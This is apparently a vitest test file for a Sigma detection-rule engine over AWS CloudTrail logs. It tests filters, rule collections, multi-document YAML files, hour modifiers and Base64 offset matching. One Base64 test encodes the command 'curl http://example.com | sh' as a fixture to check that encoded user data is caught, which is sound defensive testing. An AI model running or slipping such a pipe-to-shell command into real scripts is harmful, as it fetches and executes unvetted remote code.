/** Documents of Sigma besides single rules: filters, collections, several rules in a file. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { usableRules } from '../../../src/cli/options/rules/usable-rules.js';
import { loadRules, type RuleLoad } from '../../../src/rule/catalog/load.js';
import { readRule } from '../../../src/rule/catalog/read.js';
import { conjunctsOf } from '../../../src/rule/condition/condition.js';
import { notation } from '../../../src/rule/condition/notation.js';
import { huntEvents, onlySection, openedGroup } from '../../support/hunt-events.js';
import { emptyFolder } from '../../support/run-hunt.js';

function load(files: Readonly<Record<string, string>>): RuleLoad {
  return loadRules({ names: [], folders: [folderWith(files)] });
}

function folderWith(files: Readonly<Record<string, string>>): string {
  const folder = emptyFolder();
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text);
  }
  return folder;
}

const rule = (id: string, more = ''): string => `title: Rule ${id}
id: ${id}
logsource: { product: aws, service: cloudtrail }
detection:
  selection: { eventName: AuthorizeSecurityGroupIngress }
  condition: selection
${more}`;

const filter = (rules: string, condition: string): string => `title: Filter
logsource: { service: cloudtrail }
filter:
  rules: ${rules}
  selection: { userAgent|contains: console }
  others: { awsRegion: eu-west-1 }
  condition: ${condition}
`;

const conditionsOf = ({ rules }: RuleLoad): readonly (readonly string[])[] =>
  rules.map((one) => conjunctsOf(one.rule.condition).map(notation));

const HIDDEN = 'not (userAgent icontains "console")';

describe('a filter', () => {
  test.each([
    ['[a]', 'not selection', [HIDDEN]],
    ['a', 'selection', [HIDDEN]],
    ['any', 'not selection', [HIDDEN]],
    ['[Rule a]', 'not selection', [HIDDEN]],
    ['[own-name]', 'not selection', [HIDDEN]],
    ['[b, c]', 'not selection', []],
    ['[a]', 'not selection and not others', [HIDDEN, 'not (awsRegion iequals "eu-west-1")']],
    [
      '[a]',
      'selection or others',
      ['not (userAgent icontains "console" or awsRegion iequals "eu-west-1")'],
    ],
  ])('for %s with %s becomes exclusions', (rules, condition, expected) => {
    const loaded = load({
      'a.yml': rule('a', 'name: own-name\n'),
      'z.yml': filter(rules, condition),
    });
    expect(conditionsOf(loaded)).toEqual([
      ['eventName iequals "AuthorizeSecurityGroupIngress"', ...expected],
    ]);
    expect(loaded.refused).toEqual([]);
    expect(loaded.idleFilters).toHaveLength(expected.length === 0 ? 1 : 0);
  });

  test('that applies to no rule is said: an error where a person named it, else counted', () => {
    const folder = folderWith({ 'a.yml': rule('a'), 'z.yml': filter('[b]', 'selection') });
    const [own, other] = [join(folder, 'a.yml'), join(folder, 'z.yml')];
    const counted = [{ reason: 'filters that apply to no rule', count: 1 }];
    expect(usableRules({ names: [], folders: [folder] }).skipped).toEqual(counted);
    for (const names of [[own, other], [other], ['AWS.KMS.ManualKeyDeletion', other]])
      expect(() => usableRules({ names, folders: [] })).toThrow(
        `${other}:4:10: the filter applies to no rule that is hunted`,
      );
    const alone = folderWith({ 'z.yml': filter('any', 'selection') });
    expect(() => usableRules({ names: [], folders: [alone] })).toThrow(
      'no rule that can be applied: 1 filter that applies to no rule',
    );
  });

  test('for a rule that is refused does not hide why it is', () => {
    const refused = rule('b').replace('eventName:', 'userIdentity|contains:');
    const folder = folderWith({ 'a.yml': rule('a'), 'b.yml': refused });
    const named = join(folderWith({ 'z.yml': filter('[b]', 'selection') }), 'z.yml');
    const usable = usableRules({ names: [named], folders: [folder] });
    expect(usable.rules).toHaveLength(1);
    expect(usable.refused).toMatchObject([{ file: join(folder, 'b.yml'), line: 5 }]);
    expect(usable.skipped).toEqual([{ reason: 'filters that apply to no rule', count: 1 }]);
    expect(() =>
      usableRules({ names: [named], folders: [folderWith({ 'b.yml': refused })] }),
    ).toThrow(usable.refused[0]?.reason);
  });

  test('applies whatever the order of the files, and to its own log source only', () => {
    const text = filter('[a]', 'not selection');
    expect(conditionsOf(load({ '0.yml': text, 'a.yml': rule('a') }))[0]).toHaveLength(2);
    const other = text.replace('service: cloudtrail', 'product: azure');
    const loaded = load({ '0.yml': other, 'a.yml': rule('a') });
    expect(conditionsOf(loaded)[0]).toHaveLength(1);
    expect(loaded.skipped).toEqual(new Map([['rules about other logs', 1]]));
  });

  test('is in the ledger', async () => {
    const [loaded] = load({ 'a.yml': `${rule('a')}---\n${filter('[a]', 'not selection')}` }).rules;
    if (loaded === undefined) throw new Error('no rule');
    const report = await huntEvents([openedGroup()], { rules: [loaded.rule] });
    const { findings, exclusions } = onlySection(report);
    expect(findings).toEqual([]);
    expect(exclusions).toEqual([
      expect.objectContaining({ condition: HIDDEN, applied: true, hidden: 1 }),
    ]);
  });

  test.each([
    ['[a]', 'not selection and others', 'mixes what it keeps and what it leaves out'],
    ['[a]', 'nothing', 'the detection has no "nothing"'],
    ['{ a: b }', 'selection', 'must be a single value'],
  ])('for %s with %s is refused', (rules, condition, problem) => {
    const { refused, rules: left } = load({
      'a.yml': rule('a'),
      'z.yml': filter(rules, condition),
    });
    expect(refused.map((error) => error.problem)).toEqual([expect.stringContaining(problem)]);
    expect(left).toHaveLength(1);
  });

  test('is no rule by itself', () => {
    expect(() => readRule(filter('[a]', 'not selection'), 'f.yml')).toThrow('is a Sigma filter');
  });
});

describe('a file with several documents', () => {
  test('names the line of the first of two that have the same ID', () => {
    const other = rule('a').replace('Authorize', 'Revoke');
    const { refused } = load({ 'a.yml': `${rule('a')}---\n${other}` });
    expect(refused.map(({ at, problem }) => [at?.line, problem])).toEqual([
      [8, expect.stringMatching(/a\.yml:1 has the same ID, a$/)],
    ]);
  });

  test('has several rules', () => {
    const loaded = load({
      'a.yml': `---\n${rule('a')}---\n${rule('b')}---\ntitle: [\n---\n${rule('c')}---\n`,
    });
    expect(loaded.rules.map((one) => one.rule.id)).toEqual(['a', 'b', 'c']);
    expect(loaded.refused.map(({ at }) => at?.line)).toEqual([16]);
  });

  test('may be a collection', () => {
    const text = `action: global
title: Shared
logsource: { product: aws, service: cloudtrail }
detection: { condition: selection }
level: high
---
id: one
detection: { selection: { eventName: A } }
---
id: two
detection: { selection: { eventName: B } }
---
action: repeat
id: three
detection: { selection: { awsRegion: eu-west-1 } }
---
action: reset
---
${rule('four')}`;
    const loaded = load({ 'a.yml': text });
    expect(loaded.refused).toEqual([]);
    expect(loaded.rules.map((one) => [one.rule.id, one.rule.severity])).toEqual([
      ['one', 'High'],
      ['two', 'High'],
      ['three', 'High'],
      ['four', 'Medium'],
    ]);
    expect(conditionsOf(loaded)[2]).toEqual([
      'eventName iequals "B"',
      'awsRegion iequals "eu-west-1"',
    ]);
  });
});

describe('a value', () => {
  const selecting = (entry: string) =>
    readRule(rule('a').replace('eventName: AuthorizeSecurityGroupIngress', entry), 'a.yml');
  const matches = async (entry: string, event: Record<string, unknown>): Promise<boolean> => {
    const report = await huntEvents([openedGroup(event)], { rules: [selecting(entry)] });
    return onlySection(report).findings.length === 1;
  };

  test('is compared with a part of the time in UTC', async () => {
    const night = 'eventTime|hour|lt: 5';
    expect(await matches(night, { eventTime: '2026-01-14T04:59:59Z' })).toBe(true);
    expect(await matches(night, { eventTime: '2026-01-14T01:00:00-05:00' })).toBe(false);
    expect(await matches('eventTime|hour: [22, 23]', { eventTime: '2026-01-14T23:00:00Z' })).toBe(
      true,
    );
    expect(await matches('eventTime|hour|neq: 09', { eventTime: '2026-01-14T09:00:00Z' })).toBe(
      false,
    );
    expect(notation(selecting('eventTime|hour: [22, 23]').condition)).toBe(
      'hour of eventTime in ["22", "23"]',
    );
  });

  test.each([0, 1, 2, 3, 4])('is found in Base64 at offset %i', async (offset) => {
    const script = `${'x'.repeat(offset)}curl http://example.com | sh`;
    const data = Buffer.from(script).toString('base64');
    const wide = Buffer.from(script, 'utf16le').toString('base64');
    const event = (userData: string) => ({ requestParameters: { userData } });
    const field = 'requestParameters.userData';
    expect(await matches(`${field}|base64offset|contains: 'curl http'`, event(data))).toBe(true);
    expect(await matches(`${field}|wide|base64offset|contains: 'curl http'`, event(wide))).toBe(
      true,
    );
    expect(await matches(`${field}|base64offset|contains: 'wget http'`, event(data))).toBe(false);
    expect(await matches(`${field}|base64: '${script}'`, event(data))).toBe(true);
  });
});
